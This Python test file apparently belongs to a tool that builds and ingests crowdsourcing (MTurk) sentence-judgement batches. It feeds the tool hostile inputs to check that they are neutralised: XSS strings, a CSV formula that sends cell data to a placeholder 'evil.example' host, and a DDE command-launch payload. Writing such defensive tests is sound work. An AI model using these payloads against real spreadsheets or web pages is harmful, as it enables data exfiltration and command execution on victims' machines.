"""MTurk validation (V): batches, simulated and real results files, ingest."""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ElementTree
from pathlib import Path

from blimpgen.validate.batch import KEY_COLUMNS
from tests.hostile.corpus import Case, Error, Ok, cli, py

BATCH = ("validate", "batch", "--pairs-per-paradigm", "5", "--judgments", "3", "--items-per-hit", "5", "--seed", "0")
INGEST = ("validate", "ingest", "--batch", "hits", "-o", "rep")
NEEDS = ("DATA", "hits", "results.csv")


def record(uid: str, index: int, good: str, bad: str) -> dict:
    return {
        "sentence_good": good,
        "sentence_bad": bad,
        "field": "syntax",
        "linguistics_term": "t",
        "UID": uid,
        "simple_LM_method": True,
        "one_prefix_method": False,
        "two_prefix_method": False,
        "lexically_identical": False,
        "pairID": str(index),
        "pair_id": f"{uid}-{index:05d}",
    }


def pairs_file(good: list[str], bad: list[str] | None = None, uid: str = "odd", count: int = 20) -> str:
    """A BLiMP-schema JSONL text: ``count`` pairs cycling through the given sentences (made unique)."""
    bad = bad or [g + " x" for g in good]
    return "".join(
        json.dumps(record(uid, i, f"{good[i % len(good)]} {i}", f"{bad[i % len(bad)]} {i}")) + "\n"
        for i in range(count)
    )


def batch_of(text: str, *extra: str):
    """Files and the batch command for a data file of odd sentences."""
    return {"DATA/odd.jsonl": text}, cli(*BATCH, "--data", "DATA", "-o", "h", *extra)


def previews(ws: Path, folder: str = "h") -> list[str]:
    return [p.read_text(encoding="utf-8") for p in sorted((ws / folder / "preview").glob("*.html"))]


def safe_html(ws: Path) -> None:
    clean = previews(ws)
    for page in clean:
        assert page.count("<script") == 1 and "<img" not in page and '<input type="text" name="evil"' not in page


def xml_well_formed(ws: Path) -> None:
    files = sorted((ws / "h" / "questions").glob("*.xml"))
    assert files
    for path in files:
        ElementTree.fromstring(path.read_text(encoding="utf-8"))


def placeholders_literal(ws: Path) -> None:
    assert any("${hit_code}" in page for page in previews(ws))


def cells(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def no_formula_cells(*names: str):
    def check(ws: Path) -> None:
        for name in names:
            for row in cells(ws / name):
                for cell in row:
                    assert not cell.startswith(("=", "+", "-", "@")) or cell.lstrip("+-").replace(".", "").isdigit(), (
                        name,
                        cell,
                    )

    return check


def key_reads_back(ws: Path) -> None:
    """The neutralised key reads back exactly: '=HYPERLINK...' is the sentence, not a formula."""
    from blimpgen.validate.batch import load_batch

    sentences = {i.sentence_good for hit in load_batch(ws / "h").hits.values() for i in hit.items if i.kind == "real"}
    assert any(s.startswith(("=", "+", "-", "@")) for s in sentences), sorted(sentences)[:3]


def results_rows(ws: Path, name: str = "results.csv") -> list[list[str]]:
    return cells(ws / name)


def write_rows(path: Path, rows: list[list[str]]) -> None:
    buffer = io.StringIO()
    csv.writer(buffer, quoting=csv.QUOTE_ALL, lineterminator="\n").writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8")


def edited(name: str, edit):
    """A results file built from the simulated one by ``edit(rows)`` (rows[0] is the header)."""

    def build(path: Path) -> None:
        rows = results_rows(path.parent)
        edit(rows)
        write_rows(path, rows)

    return build


def set_cell(column: str, value: str, row: int = 1):
    def edit(rows: list[list[str]]) -> None:
        rows[row][rows[0].index(column)] = value

    return edit


def swap(column_a: str, column_b: str, row: int = 1):
    def edit(rows: list[list[str]]) -> None:
        a, b = rows[0].index(column_a), rows[0].index(column_b)
        rows[row][a], rows[row][b] = rows[row][b], rows[row][a]

    return edit


def summary(ws: Path) -> dict:
    return json.loads((ws / "rep" / "summary.json").read_text())


def rows_are(count: int, excluded: int | None = None):
    def check(ws: Path) -> None:
        numbers = summary(ws)
        assert numbers["rows"] == count, numbers
        if excluded is not None:
            assert numbers["excluded"] == excluded, numbers

    return check


def every_row_counted(ws: Path) -> None:
    """V18c: the other five assignments are all read; the oversized row is listed, not lost."""
    numbers = summary(ws)
    assert numbers["rows"] >= 6 and numbers["rows"] == numbers["included"] + numbers["excluded"], numbers
    assert numbers["excluded_by_reason"].get("malformed", 0) >= 1, numbers
    listed = (ws / "rep" / "excluded.csv").read_text(encoding="utf-8")
    assert "field larger than field limit" in listed, listed[:500]


def old_batch_intact(ws: Path) -> None:
    """V30: a failure while writing a new batch leaves the old one whole (same HIT codes, previews there)."""
    before = json.loads((ws / "before.json").read_text())
    for name, text in before.items():
        assert (ws / "hits" / name).read_text(encoding="utf-8") == text, name
    assert not list(ws.glob(".hits.*"))


def fail_writing_key(ws: Path) -> None:
    import blimpgen.validate.batch as batch
    from blimpgen.validate.design import BatchOptions

    (ws / "before.json").write_text(
        json.dumps(
            {
                p.relative_to(ws / "hits").as_posix(): p.read_text(encoding="utf-8")
                for p in (ws / "hits").rglob("*")
                if p.is_file()
            }
        )
    )
    real = batch.write_csv

    def failing(path, header, rows):
        if path.name == "key.csv":
            raise OSError(28, "No space left on device")
        return real(path, header, rows)

    batch.write_csv = failing
    try:
        batch.write_batch(
            ws / "DATA",
            ws / "hits",
            BatchOptions(pairs_per_paradigm=5, judgments=3, items_per_hit=5, seed=1),
            force=True,
        )
    finally:
        batch.write_csv = real


def force_keeps_foreign(ws: Path) -> None:
    """--force replaces the batch's own files and keeps the rest (a results file, notes)."""
    assert (ws / "hits" / "results.csv").read_text() == "mine\n" and (ws / "hits" / "notes" / "a.txt").is_file()
    codes = {row[0] for row in cells(ws / "hits" / "key.csv")[1:]}
    assert all(p.stem in codes for p in (ws / "hits" / "preview").glob("*.html"))


ODD = [
    "<script>alert(1)</script> The cat",
    '"><img src=x onerror=alert(1)> The dog',
    '</span></label><input type="text" name="evil"> A bird',
]
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click me")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
MESSY = ["x" * 20000, "Emoji 😀 and astral 𝔘", "new\nline and\rreturn and\ttab", 'quotes " and \\ backslash']


def rows_edit(*edits):
    def edit(rows):
        for e in edits:
            e(rows)

    return edit


def duplicate_rows(rows):
    rows.append(list(rows[1]))
    other = list(rows[2])
    other[rows[0].index("AssignmentId")] = rows[1][rows[0].index("AssignmentId")]
    rows.append(other)


def truncate_last(path: Path) -> None:
    text = (path.parent / "results.csv").read_text(encoding="utf-8")
    path.write_text(text[: text.rindex('"', 0, len(text) - 2) - 30], encoding="utf-8")


def second_q1(rows):
    rows[0].append("Answer.q1")
    for row in rows[1:]:
        row.append({"1": "2", "2": "1"}.get(row[rows[0].index("Answer.q1")], ""))


def key_truncated(path: Path) -> None:
    """The key cut in the middle of its 7th line (a row of 13 fields)."""
    lines = (path.parent.parent / "hits" / "key.csv").read_text(encoding="utf-8").split("\n")
    path.write_text("\n".join(lines[:6] + [lines[6][: len(lines[6]) // 2]]), encoding="utf-8")


def copy_hits_with(name: str, content):
    def build(path: Path) -> None:
        source = path.parent.parent / "hits" / name
        path.write_text(content(source.read_text(encoding="utf-8")), encoding="utf-8")

    return build


CASES = [
    Case(
        id="V01",
        surface="validate",
        what='sentences with <script>, "><img onerror>, </span></label><input>',
        files=batch_of(pairs_file(ODD))[0],
        run=(batch_of("")[1],),
        expect=Ok(safe_html),
    ),
    Case(
        id="V02",
        surface="validate",
        what="a sentence containing ]]> (CDATA terminator), --questions",
        files=batch_of(pairs_file(["The ]]> cat sleeps"]))[0],
        run=(batch_of("", "--questions")[1],),
        expect=Ok(xml_well_formed),
    ),
    Case(
        id="V03",
        surface="validate",
        what="sentences containing ${hit_code} ${s1_a}",
        files=batch_of(pairs_file(["The ${hit_code} ${s1_a} cat"]))[0],
        run=(batch_of("")[1],),
        expect=Ok(placeholders_literal),
    ),
    Case(
        id="V04",
        surface="validate",
        what="sentences starting = + - @ (=HYPERLINK, +cmd|, @SUM)",
        finding="F22",
        files=batch_of(pairs_file(FORMULAS, FORMULAS[::-1]))[0],
        run=(batch_of("")[1],),
        expect=Ok(lambda ws: (no_formula_cells("h/batch.csv", "h/key.csv")(ws), key_reads_back(ws))),
    ),
    Case(
        id="V05",
        surface="validate",
        what="20 000-char sentence, emoji/astral, newline/CR/TAB, quotes/backslashes",
        files=batch_of(pairs_file(MESSY))[0],
        run=(batch_of("")[1],),
        expect=Ok(),
    ),
    Case(
        id="V06",
        surface="validate",
        what="--title '${evil} <script>x</script>'",
        needs=("DATA",),
        run=(cli(*BATCH, "--data", "DATA", "-o", "h", "--title", "${evil} <script>x</script>"),),
        expect=Ok(lambda ws: all("<script>x" not in page for page in previews(ws))),
    ),
    *[
        Case(
            id=f"V07{letter}",
            surface="validate",
            what=f"{option} {value}",
            needs=("DATA",),
            run=(cli(*BATCH, "--data", "DATA", "-o", "h", option, value),),
            expect=Error(message),
        )
        for letter, option, value, message in (
            ("a", "--items-per-hit", "0", "items-per-hit must be at least 1, got 0"),
            ("b", "--judgments", "-5", "judgments must be at least 1, got -5"),
            ("c", "--pairs-per-paradigm", "0", "pairs-per-paradigm must be at least 1, got 0"),
            ("d", "--max-assignments", "0", "max-assignments must be at least 1, got 0"),
            ("e", "--max-assignments", "100", "max-assignments 100 is above 9"),
        )
    ],
    *[
        Case(
            id=f"V08{letter}",
            surface="validate",
            what=f"{option} {value}",
            needs=("DATA",),
            finding=finding,
            run=(cli(*BATCH, "--data", "DATA", "-o", "h", option, value),),
            expect=Error(message),
        )
        for letter, option, value, message, finding in (
            ("a", "--reward", "NaN", "Invalid value for '--reward': 'NaN' is not an amount in dollars", "F23"),
            ("b", "--reward", "-1", "reward must be at least $0.01", ""),
            ("c", "--reward", "Infinity", "Invalid value for '--reward': 'Infinity' is not an amount", "F23"),
            ("d", "--hourly-wage", "0", "hourly-wage must be positive", ""),
            ("e", "--min-approval-rate", "500", "min-approval-rate is a percentage", ""),
        )
    ],
    Case(
        id="V09a",
        surface="validate",
        what="--data with good == bad pairs and no room for checks",
        files={"DATA/odd.jsonl": pairs_file(["Same words here"], ["Same words here"], count=5)},
        run=(cli(*BATCH, "--data", "DATA", "-o", "h"),),
        expect=Error("attention checks: HIT 1 of 1 has no sentence left for its check"),
    ),
    Case(
        id="V09b",
        surface="validate",
        what="--data with 2 pairs, --pairs-per-paradigm 5",
        files={"DATA/odd.jsonl": pairs_file(["The cat sleeps"], count=2)},
        run=(cli(*BATCH, "--data", "DATA", "-o", "h"),),
        expect=Error("odd: has 2 pairs, fewer than --pairs-per-paradigm 5"),
    ),
    Case(
        id="V09c",
        surface="validate",
        what="--data folder with an invalid-UTF-8 .jsonl",
        finding="F11",
        needs=("DATA",),
        files={"DATA/bin.jsonl": bytes(range(256)) * 4},
        run=(cli(*BATCH, "--data", "DATA", "-o", "h"),),
        expect=Error("DATA/bin.jsonl:1: invalid JSON"),
    ),
    Case(
        id="V09d",
        surface="validate",
        what="--data with a Latin-1 byte inside a sentence",
        finding="F11",
        needs=("DATA",),
        files={"DATA/latin.jsonl": pairs_file(["The caf\xe9 cat"]).replace("\\u00e9", "\xe9").encode("latin-1")},
        run=(cli(*BATCH, "--data", "DATA", "-o", "h"),),
        expect=Error("DATA/latin.jsonl:1: cannot read file: not UTF-8 text (byte 0xe9"),
    ),
    Case(
        id="V10",
        surface="validate",
        what="results without the Answer.q3 column",
        needs=NEEDS,
        files={"r.csv": edited("r.csv", lambda rows: [row.pop(rows[0].index("Answer.q3")) for row in rows[::-1]])},
        run=(cli(*INGEST, "--results", "r.csv"),),
        expect=Error("r.csv:1: missing column(s) Answer.q3"),
    ),
    Case(
        id="V11",
        surface="validate",
        what="an AssignmentId reused on another row + an exact duplicate row",
        needs=NEEDS,
        files={"r.csv": edited("r.csv", duplicate_rows)},
        run=(cli(*INGEST, "--results", "r.csv"),),
        expect=Ok(rows_are(8)),
    ),
    Case(
        id="V12a",
        surface="validate",
        what="an unknown HIT code",
        needs=NEEDS,
        files={"r.csv": edited("r.csv", set_cell("Input.hit_code", "zzz-999-9"))},
        run=(cli(*INGEST, "--results", "r.csv"),),
        expect=Error("r.csv:2: HIT code 'zzz-999-9' is not in batch"),
    ),
    Case(
        id="V12b",
        surface="validate",
        what="an unknown HIT code, --skip-malformed",
        needs=NEEDS,
        files={"r.csv": edited("r.csv", set_cell("Input.hit_code", "zzz-999-9"))},
        run=(cli(*INGEST, "--results", "r.csv", "--skip-malformed"),),
        expect=Ok(rows_are(6)),
    ),
    Case(
        id="V13",
        surface="validate",
        what="AssignmentStatus Rejected; the Reject column filled",
        needs=NEEDS,
        files={
            "r.csv": edited("r.csv", rows_edit(set_cell("AssignmentStatus", "Rejected"), set_cell("Reject", "x", 2)))
        },
        run=(cli(*INGEST, "--results", "r.csv"),),
        expect=Ok(rows_are(6)),
    ),
    Case(
        id="V14a",
        surface="validate",
        what="Input.s1_id and s2_id swapped",
        needs=NEEDS,
        files={"r.csv": edited("r.csv", swap("Input.s1_id", "Input.s2_id"))},
        run=(cli(*INGEST, "--results", "r.csv", "--skip-malformed"),),
        expect=Ok(rows_are(6)),
    ),
    Case(
        id="V14b",
        surface="validate",
        what="Input.s2_a and s2_b swapped, ids intact",
        finding="F15",
        needs=NEEDS,
        files={"r.csv": edited("r.csv", swap("Input.s2_a", "Input.s2_b"))},
        run=(cli(*INGEST, "--results", "r.csv"),),
        expect=Error("r.csv:2: Input.s2_a differs from the batch key: the worker saw other sentences"),
    ),
    Case(
        id="V15",
        surface="validate",
        what="a results file with a UTF-8 BOM",
        needs=NEEDS,
        files={"r.csv": lambda p: p.write_text("\ufeff" + (p.parent / "results.csv").read_text(), encoding="utf-8")},
        run=(cli(*INGEST, "--results", "r.csv"),),
        expect=Ok(rows_are(6)),
    ),
    Case(
        id="V16",
        surface="validate",
        what="a results file with CRLF line ends",
        needs=NEEDS,
        files={"r.csv": lambda p: p.write_bytes((p.parent / "results.csv").read_bytes().replace(b"\n", b"\r\n"))},
        run=(cli(*INGEST, "--results", "r.csv"),),
        expect=Ok(rows_are(6)),
    ),
    Case(
        id="V17a",
        surface="validate",
        what="the last row truncated (unterminated quote)",
        needs=NEEDS,
        files={"r.csv": truncate_last},
        run=(cli(*INGEST, "--results", "r.csv"),),
        expect=Error("r.csv:7: has 52 fields, the header has 59"),
    ),
    Case(
        id="V17b",
        surface="validate",
        what="the last row truncated, --skip-malformed",
        needs=NEEDS,
        files={"r.csv": truncate_last},
        run=(cli(*INGEST, "--results", "r.csv", "--skip-malformed"),),
        expect=Ok(rows_are(6, None)),
    ),
    Case(
        id="V18a",
        surface="validate",
        what="row 2 of 6 has a 200 KB comment, --skip-malformed",
        finding="F3",
        needs=NEEDS,
        files={"r.csv": edited("r.csv", set_cell("Answer.comments", "x" * 200_000, 2))},
        run=(cli(*INGEST, "--results", "r.csv", "--skip-malformed"),),
        expect=Ok(rows_are(6)),
    ),
    Case(
        id="V18b",
        surface="validate",
        what="row 2 of 6 has a 200 KB comment",
        finding="F3",
        needs=NEEDS,
        files={"r.csv": edited("r.csv", set_cell("Answer.comments", "x" * 200_000, 2))},
        run=(cli(*INGEST, "--results", "r.csv"),),
        expect=Ok(rows_are(6)),
    ),
    Case(
        id="V18c",
        surface="validate",
        what="a 70 MB field in row 2 of 6 (over the field limit), --skip-malformed",
        finding="F3",
        needs=NEEDS,
        files={"r.csv": edited("r.csv", set_cell("Answer.comments", "x" * 70_000_000, 2))},
        run=(cli(*INGEST, "--results", "r.csv", "--skip-malformed"),),
        expect=Ok(every_row_counted),
    ),
    Case(
        id="V19",
        surface="validate",
        what="WorkTimeInSeconds '²'",
        finding="F23",
        needs=NEEDS,
        files={"r.csv": edited("r.csv", set_cell("WorkTimeInSeconds", "²"))},
        run=(cli(*INGEST, "--results", "r.csv"),),
        expect=Error("r.csv:2: WorkTimeInSeconds '²' is not a whole number"),
    ),
    Case(
        id="V20",
        surface="validate",
        what="a second Answer.q1 column with the opposite answers",
        finding="F15",
        needs=NEEDS,
        files={"r.csv": edited("r.csv", second_q1)},
        run=(cli(*INGEST, "--results", "r.csv"),),
        expect=Error("r.csv:1: column 'Answer.q1' appears more than once"),
    ),
    Case(
        id="V21",
        surface="validate",
        what="Answer.q1 = 3; Answer.native = 'YES '",
        needs=NEEDS,
        files={"r.csv": edited("r.csv", rows_edit(set_cell("Answer.q1", "3"), set_cell("Answer.native", "YES ", 2)))},
        run=(cli(*INGEST, "--results", "r.csv", "--skip-malformed"),),
        expect=Ok(rows_are(6)),
    ),
    Case(
        id="V22a",
        surface="validate",
        what="a results file with the header only",
        needs=NEEDS,
        files={"r.csv": edited("r.csv", lambda rows: rows.__delitem__(slice(1, None)))},
        run=(cli(*INGEST, "--results", "r.csv"),),
        expect=Error("no readable results rows"),
    ),
    Case(
        id="V22b",
        surface="validate",
        what="a 0-byte results file",
        needs=NEEDS,
        files={"r.csv": ""},
        run=(cli(*INGEST, "--results", "r.csv"),),
        expect=Error("r.csv:1: empty file"),
    ),
    Case(
        id="V23",
        surface="validate",
        what="NUL and a bare CR in a comment",
        needs=NEEDS,
        files={"r.csv": edited("r.csv", set_cell("Answer.comments", "a\x00b\rc"))},
        run=(cli(*INGEST, "--results", "r.csv"),),
        expect=Ok(rows_are(6)),
    ),
    Case(
        id="V24",
        surface="validate",
        what="WorkerId =HYPERLINK(...) on a malformed row, --skip-malformed",
        finding="F22",
        needs=NEEDS,
        files={
            "r.csv": edited(
                "r.csv",
                rows_edit(
                    set_cell("WorkerId", '=HYPERLINK("http://evil.example","x")'), set_cell("AssignmentStatus", "Weird")
                ),
            )
        },
        run=(cli(*INGEST, "--results", "r.csv", "--skip-malformed"),),
        expect=Ok(no_formula_cells("rep/excluded.csv", "rep/per_worker.csv", "rep/per_pair.csv")),
    ),
    Case(
        id="V25",
        surface="validate",
        what="the same results file twice; a file and an identical copy",
        needs=NEEDS,
        files={"copy.csv": lambda p: p.write_bytes((p.parent / "results.csv").read_bytes())},
        run=(
            cli(*INGEST, "--results", "results.csv", "--results", "copy.csv"),
            cli(*INGEST, "--results", "results.csv", "results.csv"),
        ),
        expect=Ok(rows_are(12)),
    ),
    Case(
        id="V26",
        surface="validate",
        what="WorkTimeInSeconds 12.5 and -3",
        needs=NEEDS,
        files={
            "r.csv": edited(
                "r.csv", rows_edit(set_cell("WorkTimeInSeconds", "12.5"), set_cell("WorkTimeInSeconds", "-3", 2))
            )
        },
        run=(cli(*INGEST, "--results", "r.csv", "--skip-malformed"),),
        expect=Ok(rows_are(6, None)),
    ),
    Case(
        id="V27a",
        surface="validate",
        what="key.csv truncated mid-row",
        needs=NEEDS,
        files={"hits/key.csv": key_truncated},
        run=(cli(*INGEST, "--results", "results.csv"),),
        expect=Error(("hits/key.csv:7: has ", f" fields, expected {len(KEY_COLUMNS)}")),
    ),
    Case(
        id="V27b",
        surface="validate",
        what="key.csv with a BOM (saved by a spreadsheet)",
        needs=NEEDS,
        files={"hits/key.csv": copy_hits_with("key.csv", lambda text: "\ufeff" + text)},
        run=(cli(*INGEST, "--results", "results.csv"),),
        expect=Ok(rows_are(6)),
    ),
    Case(
        id="V27c",
        surface="validate",
        what="hit_properties.json not JSON",
        needs=NEEDS,
        files={"hits/hit_properties.json": "{not json"},
        run=(cli(*INGEST, "--results", "results.csv"),),
        expect=Error("hit_properties.json: damaged"),
    ),
    Case(
        id="V27d",
        surface="validate",
        what="hit_properties.json = []",
        needs=NEEDS,
        files={"hits/hit_properties.json": "[]"},
        run=(cli(*INGEST, "--results", "results.csv"),),
        expect=Error("hit_properties.json: damaged"),
    ),
    Case(
        id="V28",
        surface="validate",
        what="simulate -o BATCH/key.csv",
        finding="F7",
        needs=NEEDS,
        run=(cli("validate", "simulate", "--batch", "hits", "-o", "hits/key.csv", "--workers", "8"),),
        expect=Error(
            "hits/key.csv: the output is also an input (--batch",
            check=lambda ws: (ws / "hits" / "key.csv").read_text().startswith("hit_code,list,"),
        ),
    ),
    Case(
        id="V29a",
        surface="validate",
        what="ingest -o the batch folder",
        needs=NEEDS,
        run=(cli("validate", "ingest", "--batch", "hits", "--results", "results.csv", "-o", "hits"),),
        expect=Ok(lambda ws: (ws / "hits" / "summary.md").is_file()),
    ),
    Case(
        id="V29b",
        surface="validate",
        what="ingest -o a file",
        needs=NEEDS,
        files={"f": "x"},
        run=(cli("validate", "ingest", "--batch", "hits", "--results", "results.csv", "-o", "f"),),
        expect=Error("Invalid value for '-o' / '--output'"),
    ),
    Case(
        id="V30",
        surface="validate",
        what="batch --force over an old batch, failing while key.csv is written",
        finding="F13",
        needs=("DATA", "hits"),
        run=(py(fail_writing_key),),
        expect=Error("hits: cannot write: No space left on device", check=old_batch_intact),
    ),
    Case(
        id="V31",
        surface="validate",
        what="batch --force over a batch folder holding results and notes",
        finding="F13",
        needs=("DATA", "hits"),
        files={"hits/results.csv": "mine\n", "hits/notes/a.txt": "n"},
        run=(cli(*BATCH, "--data", "DATA", "-o", "hits", "--force", "--seed", "5"),),
        expect=Ok(force_keeps_foreign),
    ),
    Case(
        id="V32",
        surface="validate",
        what="batch -o a folder with other files and no batch",
        needs=("DATA",),
        files={"h/notes.txt": "mine"},
        run=(cli(*BATCH, "--data", "DATA", "-o", "h"),),
        expect=Error("h: folder is not empty and holds no batch"),
    ),
    Case(
        id="V33",
        surface="validate",
        what="ingest -o a folder where a report file would replace a results file",
        finding="F7",
        needs=NEEDS,
        files={"rep/per_pair.csv": lambda p: p.write_bytes((p.parent.parent / "results.csv").read_bytes())},
        run=(cli("validate", "ingest", "--batch", "hits", "--results", "rep/per_pair.csv", "-o", "rep"),),
        expect=Error("rep/per_pair.csv: the output is also an input (--results"),
    ),
    Case(
        id="V34",
        surface="validate",
        what="a Latin-1 results file",
        needs=NEEDS,
        files={"r.csv": lambda p: p.write_bytes((p.parent / "results.csv").read_bytes().replace(b"100%", b"100\xb0"))},
        run=(cli(*INGEST, "--results", "r.csv"),),
        expect=Error("r.csv: not UTF-8 text"),
    ),
]
